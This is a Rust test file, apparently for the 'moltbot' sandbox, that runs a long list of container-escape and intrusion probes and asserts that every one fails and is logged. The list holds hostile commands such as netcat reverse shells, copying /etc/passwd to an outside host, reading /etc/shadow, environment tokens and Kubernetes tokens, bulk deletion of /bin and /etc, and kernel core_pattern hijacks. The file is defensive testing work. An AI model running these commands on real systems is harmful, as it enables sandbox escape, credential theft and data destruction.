//! What rules for containers look out for, done in one: a shell line of ours for each way, which says `out` when it worked.
//! Where a tool is not there, the kernel's own door is tried. The embedded sandbox and containers are both attacked with them.

use std::collections::{BTreeMap, BTreeSet};

use moltbot_policy::container::Backend;
use moltbot_sandbox::Exit;

use crate::room::{Room, backend, has, profile, text};

/// An action by its name, and its lines. `/bin/busybox` stands for a program that can be copied.
#[rustfmt::skip]
pub(crate) const ACTIONS: &[(&str, &[&str])] = &[
    ("adding_ssh_keys_to_authorized_keys", &[
        "mkdir -p /root/.ssh && echo k >> /root/.ssh/authorized_keys && echo out",
        "mkdir -p /home/a/.ssh && echo out",
    ]),
    ("change_namespace_privileges_via_unshare", &[
        "unshare -r true && echo out",
        "unshare -m true && echo out",
        "unshare -p true && echo out",
        "unshare -n true && echo out",
        "unshare -i true && echo out",
        "unshare -u true && echo out",
    ]),
    ("change_thread_namespace", &[
        "for n in mnt net pid ipc uts; do nsenter -t 1 --$n true && echo out; done",
        "nsenter --mount=/proc/1/ns/mnt true && echo out",
    ]),
    ("clear_log_activities", &[
        "mkdir -p /var/log && echo out",
        ": > /var/log/syslog && echo out",
        "rm -r /var/tmp && echo out",
    ]),
    ("contact_cloud_metadata_service_from_container", &[
        "timeout 1 wget -q -T 2 -O- http://169.254.169.254/latest/meta-data && echo out",
        "(exec 3<>/dev/tcp/169.254.169.254/80) && echo out",
    ]),
    ("contact_ec2_instance_metadata_from_container", &[
        "for a in 2852039166 0xa9fea9fe [fd00:ec2::254] metadata.google.internal; do timeout 1 wget -q -T 2 -O- http://$a/ && echo out; done",
    ]),
    ("container_drift_detected_chmod", &[
        "cp /bin/busybox /tmp/ls && chmod +x /tmp/ls && /tmp/ls / && echo out",
    ]),
    ("container_drift_detected_open_create", &[
        "cp /bin/busybox /bin/new && echo out",
        "cp /bin/busybox /run/ls && /run/ls / && echo out",
    ]),
    ("copying_sensitive_file", &[
        "cat /etc/shadow && echo out",
        "cat /proc/1/root/etc/shadow && echo out",
        "cat /etc/sudoers && echo out",
    ]),
    ("create_files_below_dev", &[
        "echo x > /dev/x && echo out",
        "mkdir /dev/y && echo out",
        "echo x > /dev/shm/../x && echo out",
    ]),
    ("create_hardlink_over_sensitive_files", &[
        "ln /bin/busybox /workspace/h && echo out",
        "ln /etc/shadow /workspace/s && echo out",
    ]),
    ("create_hidden_file_or_directory", &[
        "echo x > /.hidden && echo out",
        "echo x > /etc/.hidden && echo out",
    ]),
    ("create_symlink_over_sensitive_files", &[
        "ln -s /etc/shadow /workspace/l && cat /workspace/l && echo out",
    ]),
    ("debugfs_launched_in_privileged_container", &[
        "for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/dm-0; do dd if=$d count=1 && echo out; done",
    ]),
    ("make_a_raw_disk", &[
        "for n in 'b 254 0' 'b 8 0' 'b 259 0' 'c 1 1' 'c 1 2'; do mknod /tmp/d $n && echo out; mknod /workspace/d $n && echo out; done",
    ]),
    ("detect_release_agent_file_container_escapes", &[
        "mkdir /sys/fs/cgroup/c && echo out",
        "mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c && echo out",
        "mkdir c; mount -t cgroup -o rdma cgroup c && echo out",
        "echo /x > /sys/fs/cgroup/release_agent && echo out",
    ]),
    ("directory_traversal_monitored_file_read", &[
        "cat ../../../../../../etc/shadow && echo out",
        "cat /workspace/../../../proc/1/environ && echo out",
    ]),
    ("disallowed_ssh_connection_non_standard_port", &[
        "(exec 3<>/dev/tcp/1.1.1.1/22) && echo out",
        "(exec 3<>/dev/tcp/127.0.0.1/2222) && echo out",
    ]),
    ("execution_from_dev_shm", &[
        "cp /bin/busybox /dev/shm/ls && /dev/shm/ls / && echo out",
    ]),
    ("find_aws_credentials", &[
        "find / -name credentials -path '*aws*' 2>/dev/null | grep . && echo out",
    ]),
    ("fileless_execution_via_memfd_create", &[
        "perl -e '$n = \"x\\0\"; $r = syscall(319, $n, 0); print \"out\\n\" if $r >= 0'",
    ]),
    ("interpreted_procs_inbound_network_activity", &[
        "nc -l -p 8000 -w 1 && echo out",
        "perl -e '$r = syscall(41, 2, 1, 0); print \"out\\n\" if $r >= 0'",
    ]),
    ("interpreted_procs_outbound_network_activity", &[
        "nc -w 1 1.1.1.1 443 && echo out",
        "ping -c 1 -W 1 1.1.1.1 && echo out",
        "nslookup example.org && echo out",
    ]),
    ("packet_socket_created_in_container", &[
        "perl -e '$r = syscall(41, 17, 3, 768); print \"out\\n\" if $r >= 0'",
        "arping -c 1 10.0.0.1 && echo out",
    ]),
    ("linux_kernel_module_injection", &[
        "insmod /tmp/x.ko && echo out",
        "modprobe dummy && echo out",
        "perl -e '$e = \"\\0\"; $r = syscall(313, 0, $e, 0); print \"out\\n\" if $r == 0'",
    ]),
    ("modify_binary_dirs", &[
        "mv /bin/ls /bin/ls2 && echo out",
        "rm /bin/ls && echo out",
        "mkdir /bin/x && echo out",
        "echo x > /usr/bin/x && echo out",
    ]),
    ("modify_container_entrypoint", &[
        "echo x > /.moltbot/moltbot && echo out",
        "rm /.moltbot/moltbot && echo out",
        "mv /.moltbot /m && echo out",
        "echo x > /proc/1/exe && echo out",
    ]),
    ("modify_shell_configuration_file", &[
        "echo x >> /etc/profile && echo out",
        "echo x >> /root/.bashrc && echo out",
    ]),
    ("mount_launched_in_privileged_container", &[
        "mount -t proc x /tmp && echo out",
        "mount -t sysfs x /tmp && echo out",
        "mount -t tmpfs x /tmp && echo out",
        "mount -t devtmpfs x /tmp && echo out",
        "mount -t cgroup2 x /tmp && echo out",
        "mount -t debugfs x /tmp && echo out",
        "mount -t overlay x /tmp && echo out",
        "mount -o bind / /tmp && echo out",
        "mount -o remount,rw / && echo out",
    ]),
    ("umount_what_hides", &[
        "umount /sys && echo out",
        "umount /proc/kcore && echo out",
        "umount -l /proc && echo out",
        "ls /sys | grep . && echo out",
    ]),
    ("set_setuid_or_setgid_bit", &[
        "cp /bin/busybox /workspace/su && chmod 4755 /workspace/su && echo out",
        "chmod g+s /workspace && echo out",
        "setpriv --reuid 0 true && echo out",
        "su -c id && echo out",
    ]),
    ("program_run_with_disallowed_http_proxy_env", &[
        "http_proxy=http://127.0.0.1:3128 timeout 1 wget -q -T 2 -O- http://example.org && echo out",
    ]),
    ("ptrace_attached_to_process", &[
        "perl -e '$r = syscall(101, 0, 0, 0, 0); print \"out\\n\" if $r == 0'",
        "strace -p 1 && echo out",
    ]),
    ("read_environment_variable_from_proc_files", &[
        "for p in /proc/[0-9]*; do [ $p = /proc/$$ ] && continue; tr '\\0' '\\n' < $p/environ | grep -i -e token -e key && echo out; done",
    ]),
    ("read_memory_of_others", &[
        "for f in mem maps environ; do head -c 1 /proc/1/$f | grep . && echo out; done",
        "ls /proc/1/root/ && echo out",
        "ls /proc/1/fd/ && echo out",
        "ls /proc/1/cwd/ && echo out",
    ]),
    ("read_ssh_information", &[
        "ls /root/.ssh && echo out",
        "ls /home/*/.ssh && echo out",
        "ls /etc/ssh && echo out",
    ]),
    ("redirect_stdout_stdin_to_network_connection_in_container", &[
        "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444' && echo out",
        "bash -c 'cat < /dev/udp/127.0.0.1/53' && echo out",
    ]),
    ("remove_bulk_data_from_disk", &[
        "rm -rf /bin/* /etc/* && echo out",
        "shred /bin/busybox && echo out",
    ]),
    ("schedule_cron_jobs", &[
        "mkdir -p /var/spool/cron && echo x > /var/spool/cron/root && echo out",
        "crontab -l && echo out",
    ]),
    ("search_private_keys_or_passwords", &[
        "find / -path /usr -prune -o '(' -name 'id_rsa*' -o -name '*.pem' -o -name 'gateway.key' ')' -print 2>/dev/null | xargs grep -l 'PRIVATE KEY' /dev/null | grep . && echo out",
    ]),
    ("docker_socket", &[
        "for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do ls $s && echo out; done",
        "docker ps && echo out",
        "DOCKER_HOST=tcp://127.0.0.1:2375 docker ps && echo out",
    ]),
    ("core_pattern", &[
        "echo '|/tmp/x' > /proc/sys/kernel/core_pattern && echo out",
        "echo /x > /proc/sys/kernel/modprobe && echo out",
        "echo 1 > /proc/sys/kernel/sysrq && echo out",
        "echo c > /proc/sysrq-trigger && echo out",
    ]),
    ("binfmt_and_uevent", &[
        "echo x > /proc/sys/fs/binfmt_misc/register && echo out",
        "echo /x > /sys/kernel/uevent_helper && echo out",
    ]),
    ("kernel_facts", &[
        "head -c 1 /proc/kcore | grep . && echo out",
        "head -c 1 /proc/kallsyms | grep . && echo out",
        "dmesg | grep . && echo out",
        "cat /proc/keys | grep . && echo out",
        "cat /proc/timer_list | grep . && echo out",
    ]),
    ("runc_file_descriptors", &[
        "for f in /proc/self/fd/[3-9] /proc/self/fd/[1-9][0-9]; do ls $f/../../ | grep -e home -e root && echo out; done",
        "cd /proc/self/cwd/../../.. && ls | grep -q home && echo out",
    ]),
    ("runc_exe", &[
        "echo x > /proc/self/exe && echo out",
        "for p in /proc/[0-9]*; do echo x >> $p/exe && echo out; done",
    ]),
    ("masked_paths", &[
        "ln -sf /proc/kcore /dev/null && echo out",
        "rm /dev/null && echo out",
        "mv /dev/console /dev/c && echo out",
    ]),
    ("own_limits", &[
        "ulimit -c unlimited && echo out",
        "ulimit -n 100000 && echo out",
        "echo -1000 > /proc/self/oom_score_adj && echo out",
    ]),
    ("cgroup_of_its_own", &[
        "mkdir /sys/fs/cgroup/x && echo out",
        "echo $$ > /sys/fs/cgroup/cgroup.procs && echo out",
        "for c in memory pids; do echo max > /sys/fs/cgroup/$c/$c.max && echo out; done",
    ]),
    ("kill_the_first_and_the_leader", &[
        "kill -9 1 && echo out",
        "kill -9 $PPID && echo out",
        "kill -STOP $PPID && echo out",
        "kill -STOP 1 && sleep 1 && grep -q '^State:.T' /proc/1/status && echo out",
    ]),
    ("chroot_out", &[
        "chroot / true && echo out",
        "chroot /proc/1/root true && echo out",
        "pivot_root . . && echo out",
    ]),
    ("user_namespaces", &[
        "echo '0 0 1' > /proc/self/uid_map && echo out",
        "echo deny > /proc/self/setgroups && echo out",
    ]),
    ("systemd_and_dbus", &[
        "ls /run/systemd && echo out",
        "ls /run/dbus && echo out",
        "systemctl status && echo out",
        "reboot -f && echo out",
    ]),
    ("clock", &[
        "date -s 2001-01-01; [ $(date +%Y) = 2001 ] && echo out",
        "hostname evil && echo out",
    ]),
    ("db_program_spawned_process", &[
        "perl -e 'system(q(mount -t proc p /tmp && echo out))'",
    ]),
    ("decoding_payload_in_container", &[
        "echo bW91bnQgLXQgcHJvYyBwIC90bXAgJiYgZWNobyBvdXQ= | base64 -d | sh",
    ]),
    ("delete_or_rename_shell_history", &[
        "rm /root/.bash_history && echo out",
        "for f in /home/*/.bash_history; do mv $f /tmp/h && echo out; done",
    ]),
    ("detect_crypto_miners_using_the_stratum_protocol", &[
        "timeout 1 wget -q -T 2 -O- http://pool.example.org:3333 && echo out",
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/3333' && echo out",
    ]),
    ("detect_outbound_connections_to_common_miner_pool_ports", &[
        "for p in 3333 4444 14433 45560; do bash -c \"exec 3<>/dev/tcp/1.1.1.1/$p\" && echo out; done",
    ]),
    ("drop_and_execute_new_binary_in_container", &[
        "cp /bin/busybox /tmp/new && /tmp/new / && echo out",
        "printf '#!/bin/sh\\necho out\\n' > /tmp/s && chmod +x /tmp/s && /tmp/s",
    ]),
    ("exfiltrating_artifacts_via_kubernetes_control_plane", &[
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token && echo out",
        "bash -c 'exec 3<>/dev/tcp/10.96.0.1/443' && echo out",
    ]),
    ("java_process_class_file_download", &[
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/1389' && echo out",
        "timeout 1 wget -q -T 2 -O /tmp/X.class http://1.1.1.1/X.class && echo out",
    ]),
    ("kubernetes_client_tool_launched_in_container", &[
        "kubectl get pods && echo out",
        "crictl ps && echo out",
        "timeout 1 wget -q -T 2 -O- https://127.0.0.1:10250/pods && echo out",
    ]),
    ("launch_ingress_remote_file_copy_tools_in_container", &[
        "timeout 1 wget -q -T 2 http://1.1.1.1/x && echo out",
        "curl -m 2 -s http://1.1.1.1/x && echo out",
    ]),
    ("launch_network_tool", &[
        "nmap -sT 127.0.0.1 && echo out",
        "tcpdump -c 1 && echo out",
        "dig @1.1.1.1 example.org +time=1 +tries=1 && echo out",
    ]),
    ("launch_package_management_process_in_container", &[
        "apt-get -qq install -y sl && echo out",
        "dpkg --unpack /tmp/x.deb && echo out",
        "apk add x && echo out",
    ]),
    ("launch_remote_file_copy_tools_in_container", &[
        "scp -o BatchMode=yes /etc/passwd a@1.1.1.1: && echo out",
        "rsync /etc/passwd rsync://1.1.1.1/x && echo out",
        "sftp -o BatchMode=yes a@1.1.1.1 && echo out",
    ]),
    ("launch_suspicious_network_tool_in_container", &[
        "ncat -w 1 1.1.1.1 443 && echo out",
        "socat - TCP:1.1.1.1:443 && echo out",
        "zmap -p 80 -n 1 && echo out",
    ]),
    ("mkdir_binary_dirs", &[
        "for d in /bin /sbin /usr/bin /usr/local/bin; do mkdir $d/x && echo out; done",
    ]),
    ("netcat_remote_code_execution_in_container", &[
        "nc -w 1 -e /bin/sh 127.0.0.1 4444 && echo out",
        "mkfifo p; (sh < p | nc -w 1 127.0.0.1 4444 > p) && echo out",
    ]),
    ("non_sudo_setuid", &[
        "perl -e '$< = $> = 0; print \"out\\n\" if $> == 0'",
        "perl -e '$r = syscall(105, 0); print \"out\\n\" if $r == 0'",
    ]),
    ("polkit_local_privilege_escalation_vulnerability_cve20214034", &[
        "pkexec true && echo out",
        "perl -e '$p = \"/usr/bin/pkexec\\0\"; $v = pack(\"Q\", 0); syscall(59, $p, $v, $v); print \"refused\\n\"'",
    ]),
    ("potential_local_privilege_escalation_via_environment_variables_misuse", &[
        "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A su -c id && echo out",
        "LD_PRELOAD=/tmp/x.so su -c id && echo out",
    ]),
    ("ptrace_anti_debug_attempt", &[
        "perl -e '$r = syscall(101, 0, 0, 0, 0); print \"out\\n\" if $r == 0'",
    ]),
    ("read_sensitive_file_trusted_after_startup", &[
        "for f in /etc/shadow /etc/gshadow /etc/pam.conf /etc/security/pwquality.conf; do cat $f && echo out; done",
    ]),
    ("read_sensitive_file_untrusted", &[
        "perl -e 'open F, \"/etc/shadow\" and print \"out\\n\"'",
        "dd if=/etc/sudoers && echo out",
    ]),
    ("read_shell_configuration_file", &[
        "for f in /root/.bashrc /root/.profile /home/*/.bashrc /etc/bash.bashrc /etc/zsh/zshrc; do cat $f && echo out; done",
    ]),
    ("run_shell_untrusted", &[
        "perl -e 'exec qw(setsid sh -c), q(unshare -r true && echo out)'",
        "echo \"unshare -m true && echo out\" | setsid sh",
    ]),
    ("sudo_potential_privilege_escalation", &[
        "sudoedit -s '\\' AAAA && echo out",
        "sudo -n -u#-1 true && echo out",
        "sudo -n true && echo out",
    ]),
    ("system_procs_network_activity", &[
        "sh -c 'exec -a systemd nc -w 1 1.1.1.1 80' && echo out",
        "bash -c 'exec 3<>/dev/tcp/1.1.1.1/80' && echo out",
    ]),
    ("system_user_interactive", &[
        "su -s /bin/sh daemon -c true && echo out",
        "login -f root && echo out",
    ]),
    ("unexpected_k8s_nodeport_connection", &[
        "for p in 30000 32767; do bash -c \"exec 3<>/dev/tcp/127.0.0.1/$p\" && echo out; done",
    ]),
    ("unexpected_udp_traffic", &[
        "bash -c 'echo x > /dev/udp/1.1.1.1/53' && echo out",
        "perl -e '$r = syscall(41, 2, 2, 0); print \"out\\n\" if $r >= 0'",
    ]),
    ("unprivileged_delegation_of_page_faults_handling_to_a_userspace_process", &[
        "perl -e '$r = syscall(323, 0); print \"out\\n\" if $r >= 0'",
        "exec 3<>/dev/userfaultfd && echo out",
    ]),
    ("update_package_repository", &[
        "echo x >> /etc/apt/sources.list && echo out",
        "mkdir -p /etc/apt/sources.list.d && echo out",
        "echo x >> /etc/apk/repositories && echo out",
    ]),
    ("user_mgmt_binaries", &[
        "useradd x && echo out",
        "adduser -D x && echo out",
        "echo root:x | chpasswd && echo out",
        "passwd -d agent && echo out",
    ]),
    ("write_below_binary_dir", &[
        "for d in /bin /sbin /usr/bin /usr/sbin /usr/local/bin; do echo x > $d/new && echo out; done",
    ]),
    ("write_below_etc", &[
        "for f in passwd hosts nsswitch.conf ld.so.preload cron.d/x; do echo x >> /etc/$f && echo out; done",
    ]),
    ("write_below_monitored_dir", &[
        "for d in /boot /lib /lib64 /usr/lib /root /home /var/lib; do echo x > $d/new && echo out; done",
    ]),
];

/// Lines that say `out` where a folder of the machine is visible, and do nothing to it.
const STANDING: [&str; 2] = ["mkdir -p /var/log && echo out", "mkdir -p /etc/apt/sources.list.d && echo out"];

/// Calls that an action makes and that are watched, by what makes them: a tool that every machine here has, or Perl.
#[rustfmt::skip]
const WATCHED: &[(&str, &str, &str)] = &[
    ("change_namespace_privileges_via_unshare", "/usr/bin/unshare", "unshare"),
    ("chroot_out", "/usr/sbin/chroot", "chroot"),
    ("chroot_out", "/usr/sbin/pivot_root", "pivot_root"),
    ("db_program_spawned_process", "/usr/bin/perl", "mount"),
    ("decoding_payload_in_container", "/usr/bin/mount", "mount"),
    ("detect_release_agent_file_container_escapes", "/usr/bin/mount", "mount"),
    ("linux_kernel_module_injection", "/usr/bin/perl", "finit_module"),
    ("mount_launched_in_privileged_container", "/usr/bin/mount", "mount"),
    ("packet_socket_created_in_container", "/usr/bin/perl", "socket"),
    ("ptrace_anti_debug_attempt", "/usr/bin/perl", "ptrace"),
    ("ptrace_attached_to_process", "/usr/bin/perl", "ptrace"),
    ("run_shell_untrusted", "/usr/bin/perl", "unshare"),
    ("unprivileged_delegation_of_page_faults_handling_to_a_userspace_process", "/usr/bin/perl", "userfaultfd"),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_action_that_rules_look_out_for_works_and_what_leads_out_is_in_the_book() {
    let room = Room::new();
    let mut seen: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
    let (mut attempts, mut worked) = (0, Vec::new());
    for (name, lines) in ACTIONS {
        for line in *lines {
            if backend() == Backend::EmbeddedWeak && STANDING.contains(line) {
                println!("{line} changes nothing where there is no private root: the folder is there");
                continue;
            }
            let script = format!("({}) 2>/dev/null </dev/null", line.replace("/bin/busybox", "/bin/ls"));
            let outcome = room.run_with(&script, profile()).await.unwrap();
            let said = text(&outcome);
            if said.lines().any(|line| line == "out") || outcome.exit == Exit::TimedOut {
                worked.push(format!("{name}: {line} ({}): {said}", outcome.exit));
            }
            attempts += outcome.attempts.len();
            seen.entry(name).or_default().extend(outcome.attempts.iter().map(|one| one.call));
        }
    }
    assert_eq!(worked, Vec::<String>::new());
    let book = crate::workspace::book(&room);
    assert_eq!(book.lines().filter(|line| line.contains("\"command.attempt\"")).count(), attempts);
    for (name, tool, call) in WATCHED {
        assert!(!has(tool) || seen[name].contains(call), "{name}: {tool} was not seen to call {call}");
    }
}
